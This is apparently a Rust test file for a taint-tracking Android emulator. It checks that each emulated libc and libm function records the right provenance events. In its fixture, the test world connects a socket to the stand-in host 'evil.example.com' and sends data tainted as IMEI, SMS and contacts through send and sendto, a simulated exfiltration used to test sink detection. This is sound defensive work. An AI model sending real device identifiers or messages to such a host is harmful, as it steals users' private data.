//! The registry's provenance rule, exercised through the installed
//! table: every libc and libm row is called at its trap address at
//! `Level::Full`, with every argument register and every input string
//! tainted, and the events it leaves are pinned by family.

use ndroid_dvm::{Program, Recorder, Taint};
use ndroid_emu::runtime::HostTable;
use ndroid_emu::testutil::{TrackOnly, World};
use ndroid_libc::{install_all, libc_addr, libm_addr, LIBC_NAMES, LIBM_NAMES};
use ndroid_provenance::{Level, ProvEvent};

/// A tainted input string, and a second one for the comparisons.
const S: u32 = 0x2000_0000;
const T: u32 = 0x2000_0100;
const FMT_S: u32 = 0x2000_0200;
const FMT_D: u32 = 0x2000_0210;
/// A `va_list`: one slot holding `S`.
const VA: u32 = 0x2000_0300;
const PATH: u32 = 0x2000_0400;
const MODE: u32 = 0x2000_0440;
const DEST: u32 = 0x2000_0480;
const DST: u32 = 0x2000_1000;

/// The copy and printf/scanf families: each records its own `Libc`
/// event, for the bytes it moved.
const COPY: &[&str] = &[
    "memcpy", "memmove", "memset", "strcpy", "strncpy", "strcat", "strdup", "sscanf", "sprintf",
    "snprintf", "vsprintf", "vsnprintf",
];

/// The read family: the dispatcher records one `Libc` event from the
/// tainted R0 each returns.
const READ: &[&str] = &[
    "strlen", "strcmp", "memcmp", "strncmp", "strchr", "strstr", "atoi", "strrchr", "memchr",
    "strcasecmp", "strncasecmp", "strtoul", "atol",
];

/// The sinks: one `Sink` event each, and no `Libc` event.
const SINKS: &[&str] = &[
    "fwrite", "write", "fputc", "fputs", "send", "sendto", "fprintf", "vfprintf",
];

/// The observed stubs: no event at all.
const STUBS: &[&str] = &[
    "fcntl", "fstat", "stat", "dlsym", "bind", "dlclose", "ioctl", "listen", "mkdir", "accept",
    "select", "rename", "mprotect", "remove", "kill", "fork", "execve", "chown", "ptrace",
    "openDexFile",
];

/// A world with the whole table installed, tainted inputs in memory, a
/// writable file and a connected socket: the world, the `FILE*`, the
/// file's fd and the socket's fd.
fn world() -> (World<TrackOnly>, u32, u32, u32) {
    let mut table = HostTable::new();
    install_all(&mut table);
    let mut w = World::new(Program::new(), table, TrackOnly);
    w.mem.write_cstr(S, b"42 abc");
    w.mem.write_cstr(T, b"42 abd");
    w.mem.write_cstr(FMT_S, b"%s");
    w.mem.write_cstr(FMT_D, b"%d");
    w.mem.write_u32(VA, S);
    w.mem.write_cstr(PATH, b"/sdcard/out.txt");
    w.mem.write_cstr(MODE, b"w");
    w.mem.write_cstr(DEST, b"evil.example.com");
    let (file, _) = w.call(libc_addr("fopen"), &[PATH, MODE]).expect("fopen");
    let fd = w.kernel.open("/sdcard/raw.txt", true).expect("open") as u32;
    let sock = w.kernel.socket();
    w.kernel.connect(sock, "evil.example.com").expect("connect");
    w.shadow.mem.set_range(S, 6, Taint::IMEI);
    w.shadow.mem.set_range(T, 6, Taint::SMS);
    w.shadow.regs[..4].fill(Taint::CONTACTS);
    w.shadow.prov = Recorder::new(Level::Full, 64);
    (w, file, fd, sock as u32)
}

/// The arguments each row is called with; the default suits the string
/// readers and the libm rows, whose result taint is the union of their
/// argument registers.
fn args(name: &str, file: u32, fd: u32, sock: u32) -> Vec<u32> {
    match name {
        "memcpy" | "memmove" | "strncpy" => vec![DST, S, 6],
        "memset" => vec![DST, u32::from(b'x'), 6],
        "strcpy" | "strcat" => vec![DST, S],
        "strdup" | "strlen" | "atoi" | "atol" | "dlopen" => vec![S],
        "strchr" | "strrchr" => vec![S, u32::from(b'a')],
        "memchr" => vec![S, u32::from(b'a'), 6],
        "strtoul" => vec![S, DST, 10],
        "strtod" => vec![S, DST],
        "sscanf" => vec![S, FMT_D, DST],
        "sprintf" => vec![DST, FMT_S, S],
        "snprintf" => vec![DST, 32, FMT_S, S],
        "vsprintf" => vec![DST, FMT_S, VA],
        "vsnprintf" => vec![DST, 32, FMT_S, VA],
        "fprintf" => vec![file, FMT_S, S],
        "vfprintf" => vec![file, FMT_S, VA],
        "fwrite" => vec![S, 1, 6, file],
        "fread" => vec![DST, 1, 4, file],
        "fgets" => vec![DST, 8, file],
        "fputc" => vec![u32::from(b'x'), file],
        "fputs" => vec![S, file],
        "getc" | "fclose" => vec![file],
        "write" | "read" => vec![fd, S, 6],
        "close" => vec![fd],
        "fdopen" => vec![fd, MODE],
        "send" | "recv" => vec![sock, S, 6, 0],
        "sendto" | "recvfrom" => vec![sock, S, 6, 0, DEST],
        "connect" => vec![sock, DEST],
        "open" | "fopen" => vec![PATH, MODE],
        "malloc" | "sysconf" => vec![16],
        "calloc" => vec![2, 8],
        "realloc" => vec![0, 16],
        "mmap" => vec![0, 16],
        "free" | "munmap" => vec![0],
        _ => vec![S, T, 6, 0],
    }
}

#[test]
fn every_row_records_by_its_rule() {
    for name in [COPY, READ, SINKS, STUBS].concat() {
        assert!(LIBC_NAMES.contains(&name), "{name} is a libc row");
    }
    let libc = LIBC_NAMES.iter().map(|&n| (n, libc_addr(n)));
    let libm = LIBM_NAMES.iter().map(|&n| (n, libm_addr(n)));
    for (name, addr) in libc.chain(libm) {
        let (mut w, file, fd, sock) = world();
        let (_, r0_taint) = w
            .call(addr, &args(name, file, fd, sock))
            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
        let events = w.shadow.prov.snapshot();
        let libc_events: Vec<_> = (events.iter())
            .filter_map(|e| match e {
                ProvEvent::Libc { func, label } => Some((func.to_string(), Taint(*label))),
                _ => None,
            })
            .collect();
        let sinks = events.iter().filter(|e| e.is_sink()).count();
        assert_eq!(
            events.len(),
            libc_events.len() + sinks,
            "{name}: only Libc and Sink events"
        );
        if SINKS.contains(&name) {
            assert_eq!((libc_events.len(), sinks), (0, 1), "{name}: one Sink event");
            continue;
        }
        assert_eq!(sinks, 0, "{name} is no sink");
        if STUBS.contains(&name) {
            assert!(libc_events.is_empty(), "{name}: a stub records nothing");
            assert!(w.trace.contains(&format!("TrustCallHandler[{name}]")), "{name} observed");
        } else if COPY.contains(&name) {
            let [(func, label)] = &libc_events[..] else {
                panic!("{name}: one Libc event, got {libc_events:?}");
            };
            assert_eq!(func, name, "the event names the bound function");
            assert!(label.is_tainted(), "{name}: the moved bytes' taint");
        } else if READ.contains(&name) || LIBM_NAMES.contains(&name) {
            assert!(r0_taint.is_tainted(), "{name} returns tainted");
            assert_eq!(libc_events, [(name.to_string(), r0_taint)], "{name}: R0's event");
        } else {
            assert!(!r0_taint.is_tainted(), "{name} returns clean");
            assert!(libc_events.is_empty(), "{name}: a clean R0 records nothing");
        }
    }
}

/// `memmove` binds the `memcpy` body, and records under its own name.
#[test]
fn memmove_records_under_its_own_name() {
    let (mut w, ..) = world();
    w.call(libc_addr("memmove"), &[S + 1, S, 4]).expect("memmove");
    assert_eq!(w.mem.read_cstr(S), b"442 ac");
    let funcs: Vec<_> = (w.shadow.prov.snapshot().into_iter())
        .filter_map(|e| match e {
            ProvEvent::Libc { func, .. } => Some(func.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(funcs, ["memmove"]);
}
